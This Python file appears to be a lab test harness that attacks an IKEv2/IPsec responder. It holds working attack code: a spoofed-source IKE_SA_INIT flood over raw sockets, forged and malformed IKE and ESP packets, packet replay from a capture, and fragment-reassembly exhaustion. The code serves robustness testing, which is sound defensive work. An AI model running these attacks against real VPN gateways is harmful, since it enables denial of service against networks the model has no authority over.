"""Hostile traffic against an IKE responder, run inside a lab node (tests/lab/test_hostile.py,
tests/lab/test_flood.py, bench/flood.py). Each command prints one JSON object: what it sent.

    attack.py flood --target 198.51.100.2 --sources 203.0.113.0/24 --seconds 10
        well-formed IKE_SA_INIT requests (scapy-built template; a new SPIi, source address and
        port in every one, spoofed with a raw socket) as fast as this process can send them
    attack.py hostile --target 198.51.100.2 --ike-spis SPIi:SPIr --esp-spi SPI --replay CAPTURE
        malformed and truncated IKE, unauthenticated INFORMATIONAL and CREATE_CHILD_SA on the
        known IKE SPIs, IKE requests and ESP packets replayed from a capture, ESP with unknown
        SPIs and with bad ICVs, oversized datagrams
    attack.py fragments --target 198.51.100.2 --sources 198.51.100.50,... --per-source 5
        IKE_SA_INIT done for real from each source (so the attacker has keys), then IKE_AUTH
        fragments: a message of too many fragments, one too large to reassemble, and from each
        source messages whose last fragment never comes

Forged packets are built with scapy (its IKEv2 and ESP layers); the fragments need real
SK keys, which lab.ike's crypto derives. Sources other than the node's own addresses are
spoofed (IP_HDRINCL); the node must not track or NAT its own output (the tests add
`iptables -t raw -A OUTPUT -j CT --notrack` in it).
"""
from __future__ import annotations

import argparse
import ipaddress
import json
import os
import random
import socket
import struct
import sys
import time
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))


def _ike_sa_init_template(spi_i: bytes = b"\x01" * 8):
    """A well-formed IKE_SA_INIT request (scapy): aes128gcm16-prfsha256-x25519, a real X25519
    public value, a 32-octet nonce."""
    from cryptography.hazmat.primitives.asymmetric.x25519 import X25519PrivateKey
    from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
    from scapy.contrib.ikev2 import (IKEv2, IKEv2_KE, IKEv2_Nonce, IKEv2_Notify,
                                     IKEv2_Proposal, IKEv2_SA, IKEv2_Transform)

    public = X25519PrivateKey.generate().public_key().public_bytes(Encoding.Raw, PublicFormat.Raw)
    transforms = (IKEv2_Transform(transform_type="Encryption", transform_id=20, length=12, key_length=128)
                  / IKEv2_Transform(transform_type="PRF", transform_id=5)
                  / IKEv2_Transform(transform_type="GroupDesc", transform_id=31))
    message = (IKEv2(init_SPI=spi_i, resp_SPI=b"\x00" * 8, exch_type=34, flags="Initiator", id=0)
               / IKEv2_SA(prop=IKEv2_Proposal(proposal=1, proto=1, trans_nb=3, trans=transforms))
               / IKEv2_KE(group=31, ke=public)
               / IKEv2_Nonce(nonce=os.urandom(32))
               / IKEv2_Notify(type=16388, notify=os.urandom(20))    # NAT_DETECTION_SOURCE_IP
               / IKEv2_Notify(type=16389, notify=os.urandom(20)))   # NAT_DETECTION_DESTINATION_IP
    return bytes(message)


def _ipv4_udp(src: str, dst: str, sport: int, dport: int, payload: bytes) -> bytes:
    from scapy.layers.inet import IP, UDP

    return bytes(IP(src=src, dst=dst, flags="DF" if len(payload) < 1400 else 0) / UDP(sport=sport, dport=dport)
                 / payload)


def _raw_socket() -> socket.socket:
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    return sock


# ---------------------------------------------------------------- flood


def flood(args) -> dict:
    """IKE_SA_INIT requests from random spoofed sources, as fast as one process sends them:
    the template is built once; each packet gets its own source address, port and SPIi
    written into it (IPv4 checksum filled in by the kernel, UDP checksum 0: RFC 768)."""
    template = bytearray(_ipv4_udp("192.0.2.1", args.target, 500, 500, _ike_sa_init_template()))
    struct.pack_into("!H", template, 10, 0)   # IPv4 header checksum: the kernel's (raw(7))
    struct.pack_into("!H", template, 26, 0)   # UDP checksum: none
    struct.pack_into("!H", template, 4, 0)    # IP ID: the kernel's
    network = ipaddress.ip_network(args.sources)
    first, size = int(network.network_address) + 1, max(network.num_addresses - 2, 1)
    sock = _raw_socket()
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    rng = random.Random(args.seed)
    target = (args.target, 0)
    sent = errors = 0
    started = time.monotonic()
    deadline = started + args.seconds
    limit = args.count or float("inf")
    rate = args.rate
    pack = struct.pack_into
    while sent < limit:
        if sent % 256 == 0:
            now = time.monotonic()
            if now >= deadline:
                break
            if rate and sent > rate * (now - started):
                time.sleep(0.001)
                continue
        pack("!I", template, 12, first + rng.randrange(size))
        pack("!H", template, 20, 1024 + rng.randrange(60000))
        pack("!Q", template, 28, rng.getrandbits(64) | 1)
        try:
            sock.sendto(template, target)
            sent += 1
        except OSError:
            errors += 1  # the send buffer is full: the machine's limit, not ours
    seconds = time.monotonic() - started
    return {"sent": sent, "send_errors": errors, "seconds": round(seconds, 3), "rate": round(sent / seconds)}


# ---------------------------------------------------------------- hostile


class Sender:
    def __init__(self, target: str, source: str, pace: float) -> None:
        self.target, self.source, self.pace = target, source, pace
        self.raw = _raw_socket()
        self.counts: dict[str, int] = {}

    def ip(self, kind: str, packet: bytes) -> None:
        self.raw.sendto(packet, (self.target, 0))
        self.counts[kind] = self.counts.get(kind, 0) + 1
        time.sleep(self.pace)

    def udp(self, kind: str, dport: int, payload: bytes, sport: int = 40500) -> None:
        self.ip(kind, _ipv4_udp(self.source, self.target, sport, dport, payload))

    def large(self, kind: str, dport: int, payload: bytes) -> None:
        """A datagram larger than the MTU, through a UDP socket: the kernel fragments it."""
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.bind((self.source, 0))
            sock.sendto(payload, (self.target, dport))
        self.counts[kind] = self.counts.get(kind, 0) + 1
        time.sleep(self.pace)


def _replayed(capture: str, target: str) -> tuple[list[tuple[bytes, int, int]], list[bytes]]:
    """(IKE requests, ESP packets) the capture holds towards `target`, as whole IP packets; each
    IKE request with its exchange type and message ID."""
    from scapy.layers.inet import IP, UDP
    from scapy.utils import rdpcap

    ike, esp = [], []
    for frame in rdpcap(capture):
        packet = frame.getlayer(IP)
        if packet is None or packet.dst != target:
            continue
        # as sent, with the checksums a capture on a veth may hold unfinished (checksum offload)
        packet = IP(bytes(packet))
        del packet.chksum
        if UDP in packet:
            del packet[UDP].chksum
        packet = IP(bytes(packet))
        if packet.proto == 50:
            esp.append(bytes(packet))
        elif UDP in packet and packet[UDP].dport in (500, 4500):
            payload = bytes(packet[UDP].payload)
            if packet[UDP].dport == 4500 and payload[:4] != b"\x00\x00\x00\x00":
                if len(payload) > 8:
                    esp.append(bytes(packet))
                continue
            ike_bytes = payload[4:] if packet[UDP].dport == 4500 else payload
            if len(ike_bytes) >= 28 and not ike_bytes[19] & 0x20:  # requests only (RFC 7296 §3.1 R flag)
                ike.append((bytes(packet), ike_bytes[18], struct.unpack_from("!I", ike_bytes, 20)[0]))
    return ike, esp


FORGED_FRAGMENT_ID = 5


def hostile(args) -> dict:
    from scapy.contrib.ikev2 import IKEv2, IKEv2_Encrypted, IKEv2_Encrypted_Fragment
    from scapy.layers.ipsec import ESP

    rng = random.Random(args.seed)
    noise = rng.randbytes
    send = Sender(args.target, args.source, args.pace)
    spi_i, spi_r = (bytes.fromhex(x) for x in args.ike_spis.split(":"))
    esp_spi = int(args.esp_spi, 16)
    marker = b"\x00\x00\x00\x00"
    init = _ike_sa_init_template()
    forged_ids: list[int] = []
    replayed: list[tuple[int, int]] = []
    for _ in range(args.rounds):
        # malformed and truncated IKE, on 500 and behind the non-ESP marker on 4500
        send.udp("ike_garbage", 500, noise(rng.randrange(1, 300)))
        send.udp("ike_garbage", 4500, marker + noise(rng.randrange(1, 300)))
        send.udp("ike_truncated", 500, init[:rng.randrange(1, len(init))])
        bad_length = bytearray(init)
        bad_length[24:28] = struct.pack("!I", len(init) + rng.randrange(1, 1000))
        send.udp("ike_truncated", 500, bytes(bad_length))
        broken_payload = bytearray(init)
        broken_payload[30:32] = struct.pack("!H", rng.choice([0, 1, 2, 3, 0xFFFF]))  # first payload's length
        send.udp("ike_malformed", 500, bytes(broken_payload))
        # unauthenticated INFORMATIONAL and CREATE_CHILD_SA on the IKE SA's real SPIs, any message ID
        for exchange in (37, 36):
            for message_id in range(0, 8):
                forged_ids.append(message_id)
                forged = IKEv2(init_SPI=spi_i, resp_SPI=spi_r, exch_type=exchange, flags="Initiator",
                               id=message_id, next_payload=46) / IKEv2_Encrypted(next_payload=41,
                                                                                   load=noise(8 + 32 + 16))
                send.udp("ike_forged_request", 4500, marker + bytes(forged))
            forged = IKEv2(init_SPI=spi_i, resp_SPI=spi_r, exch_type=exchange, flags="Initiator+Response", id=0,
                           next_payload=46) / IKEv2_Encrypted(next_payload=0, load=noise(8 + 16 + 16))
            send.udp("ike_forged_response", 4500, marker + bytes(forged))
        forged = IKEv2(init_SPI=noise(8), resp_SPI=noise(8), exch_type=37, flags="Initiator", id=1,
                       next_payload=46) / IKEv2_Encrypted(next_payload=41, load=noise(56))
        send.udp("ike_unknown_spis", 4500, marker + bytes(forged))
        # unauthenticated fragments on the known SPIs: each is checked before it is kept
        for number in range(1, 4):
            fragment = IKEv2(init_SPI=spi_i, resp_SPI=spi_r, exch_type=36, flags="Initiator", id=FORGED_FRAGMENT_ID,
                             next_payload=53) / IKEv2_Encrypted_Fragment(next_payload=33 if number == 1 else 0,
                                                                         frag_number=number, frag_total=50,
                                                                         load=noise(8 + 800 + 16))
            send.udp("ike_fragment_forged", 4500, marker + bytes(fragment))
        # ESP: unknown SPIs; the SA's SPI with bad ICVs (and sequence numbers far ahead, which a
        # receiver must not take before the ICV checks out: RFC 4303 §3.4.3); as ESP-in-UDP and as
        # IP protocol 50
        unknown = ESP(spi=rng.getrandbits(32) | 0x100, seq=rng.randrange(1, 1000), data=noise(64))
        send.udp("esp_unknown_spi", 4500, bytes(unknown))
        send.ip("esp_unknown_spi", _ip_proto(args.source, args.target, 50, bytes(unknown)))
        bad_icv = ESP(spi=esp_spi, seq=rng.randrange(1, 2**31), data=noise(16 * rng.randrange(2, 6) + 8 + 16))
        send.udp("esp_bad_icv", 4500, bytes(bad_icv))
        send.udp("esp_truncated", 4500, bytes(bad_icv)[:rng.randrange(9, 24)])
        # oversized datagrams (IP-fragmented on the way)
        send.large("oversized", 500, init + noise(20000))
        send.large("oversized", 4500, marker + init + noise(20000))
        send.large("oversized_esp", 4500, struct.pack("!II", esp_spi, 7) + noise(30000))
    if args.replay:
        ike, esp = _replayed(args.replay, args.target)
        for _ in range(args.replay_times):
            for packet, exchange, message_id in ike:
                send.ip("ike_replayed", packet)
                replayed.append((exchange, message_id))
            for packet in esp:
                send.ip("esp_replayed", packet)
    return {**send.counts, "forged_request_ids": forged_ids, "fragment_forged_id": FORGED_FRAGMENT_ID,
            "replayed_requests": replayed}


def _ip_proto(src: str, dst: str, proto: int, payload: bytes) -> bytes:
    from scapy.layers.inet import IP

    return bytes(IP(src=src, dst=dst, proto=proto) / payload)


# ---------------------------------------------------------------- fragments


def _ike_sa_init_for_real(source: str, port: int, target: str):
    """IKE_SA_INIT from (source, port) to the target's port 500, with a COOKIE returned if one is
    asked for (RFC 7296 §2.6): (socket, IKE_AUTH template, cipher, SK_ei/SK_ai) or None if refused."""
    from lab.ike import payloads as pl
    from lab.ike.const import ExchangeType, NotifyType
    from lab.ike.crypto import SkCipher, derive_ike_sa_keys
    from lab.ike.crypto.dh import new_key_exchange
    from lab.ike.message import Message
    from lab.ike.proposals import ChosenAlgorithms, parse_ike_proposals
    from lab.ike.protect import DirectionKeys

    proposals = parse_ike_proposals("aes128gcm16-prfsha256-x25519")
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind((source, port))
    sock.settimeout(2)
    spi_i, nonce_i = os.urandom(8), os.urandom(32)
    kex = new_key_exchange(31)
    extra: list = []
    answer = None
    for _attempt in range(3):
        request = Message(spi_i, bytes(8), ExchangeType.IKE_SA_INIT, 0, True, False, extra + [
            pl.SA(proposals=proposals), pl.KE(dh_group=31, data=kex.public_value), pl.Nonce(data=nonce_i),
            pl.Notify(notify_type=NotifyType.IKEV2_FRAGMENTATION_SUPPORTED)])
        sock.sendto(request.serialize(), (target, 500))
        try:
            answer = Message.parse(sock.recv(65535))
        except (socket.timeout, OSError):
            answer = None
            break
        cookie = next((p for p in answer.payloads if isinstance(p, pl.Notify)
                       and p.notify_type == NotifyType.COOKIE), None)
        if cookie is None:
            break
        extra = [pl.Notify(notify_type=NotifyType.COOKIE, data=cookie.data)]  # RFC 7296 §2.6
    if answer is None or answer.get(pl.KE) is None:
        sock.close()
        return None
    chosen = ChosenAlgorithms.from_proposal(answer.get(pl.SA).proposals[0])
    keys = derive_ike_sa_keys(chosen.prf, chosen.encr, chosen.encr_key_length, chosen.integ or 0,
                              kex.shared_secret(answer.get(pl.KE).data), nonce_i, answer.get(pl.Nonce).data,
                              spi_i, answer.spi_r)
    cipher = SkCipher(chosen.encr, chosen.encr_key_length, chosen.integ or 0)
    template = Message(spi_i, answer.spi_r, ExchangeType.IKE_AUTH, 1, True, False)
    return sock, template, cipher, DirectionKeys(keys.sk_ei, keys.sk_ai)


def fragments(args) -> dict:
    """IKE_SA_INIT for real (a COOKIE returned when asked), then SKF fragments of IKE_AUTH requests
    (RFC 7383) that break the responder's limits: from the first source one message of more
    fragments than --max-fragments and one larger than --max-packet once reassembled (all their
    fragments sent); then from each source --per-source messages whose last fragment never comes.
    Reports the fragments of each and, for the too-large message, how many fit before the limit."""
    from lab.ike import payloads as pl
    from lab.ike.message import Message
    from lab.ike.protect import decrypt_fragment, encrypt_fragments

    counts: dict = {"sas": 0, "init_refused": 0, "too_many_fragments": 0, "too_large_fragments": 0,
                    "too_large_fitting": 0, "incomplete_fragments": []}
    sources = args.sources.split(",")
    plan = [(sources[0], "too_many"), (sources[0], "too_large")]
    plan += [(source, "incomplete") for source in sources for _ in range(args.per_source)]
    port = 41000
    for source, kind in plan:
        port += 1
        sa = _ike_sa_init_for_real(source, port, args.target)
        if sa is None:
            counts["init_refused"] += 1
            continue
        sock, template, cipher, out = sa
        counts["sas"] += 1
        if kind == "too_many":
            pieces = encrypt_fragments(template, [pl.VendorID(data=os.urandom(150 * (args.max_fragments + 1)))],
                                       cipher, out, os.urandom, 200)
            assert len(pieces) > args.max_fragments, len(pieces)
            counts["too_many_fragments"] = len(pieces)
        elif kind == "too_large":
            pieces = encrypt_fragments(template, [pl.VendorID(data=os.urandom(args.max_packet + 1000))], cipher, out,
                                       os.urandom, 1200)
            held = 0
            for piece in pieces:
                held += len(decrypt_fragment(piece, Message.parse(piece), cipher, out))
                if held > args.max_packet:
                    break
                counts["too_large_fitting"] += 1
            counts["too_large_fragments"] = len(pieces)
        else:
            pieces = encrypt_fragments(template, [pl.VendorID(data=os.urandom(args.message_size))], cipher, out,
                                       os.urandom, 1200)[:-1]  # the last never comes: it stays in reassembly
            counts["incomplete_fragments"].append(len(pieces))
        for piece in pieces:
            sock.sendto(piece, (args.target, 500))
            time.sleep(args.pace)
        sock.close()
    return counts


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    commands = parser.add_subparsers(dest="command", required=True)
    f = commands.add_parser("flood")
    f.add_argument("--target", required=True)
    f.add_argument("--sources", default="203.0.113.0/24", help="spoofed source addresses (CIDR)")
    f.add_argument("--seconds", type=float, default=5.0)
    f.add_argument("--count", type=int, default=0, help="stop after this many (0: run for --seconds)")
    f.add_argument("--rate", type=float, default=0, help="requests per second at most (0: as fast as possible)")
    f.add_argument("--seed", type=int, default=1)
    h = commands.add_parser("hostile")
    h.add_argument("--target", required=True)
    h.add_argument("--source", required=True, help="the address the forged packets come from")
    h.add_argument("--ike-spis", required=True, help="SPIi:SPIr of an established IKE SA (hex)")
    h.add_argument("--esp-spi", required=True, help="inbound ESP SPI of the target's CHILD SA (hex)")
    h.add_argument("--replay", help="a capture whose IKE requests and ESP packets towards the target are replayed")
    h.add_argument("--replay-times", type=int, default=2)
    h.add_argument("--rounds", type=int, default=20)
    h.add_argument("--pace", type=float, default=0.001, help="seconds between packets")
    h.add_argument("--seed", type=int, default=1)
    g = commands.add_parser("fragments")
    g.add_argument("--target", required=True)
    g.add_argument("--sources", required=True, help="comma-separated addresses of this node")
    g.add_argument("--per-source", type=int, default=3)
    g.add_argument("--message-size", type=int, default=6000, help="octets of the IKE_AUTH that is never finished")
    g.add_argument("--max-fragments", type=int, default=64, help="the responder's limit (its --max-fragments)")
    g.add_argument("--max-packet", type=int, default=10000, help="the responder's limit (its --max-packet)")
    g.add_argument("--pace", type=float, default=0.001)
    args = parser.parse_args(argv)
    result = {"flood": flood, "hostile": hostile, "fragments": fragments}[args.command](args)
    print(json.dumps(result), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
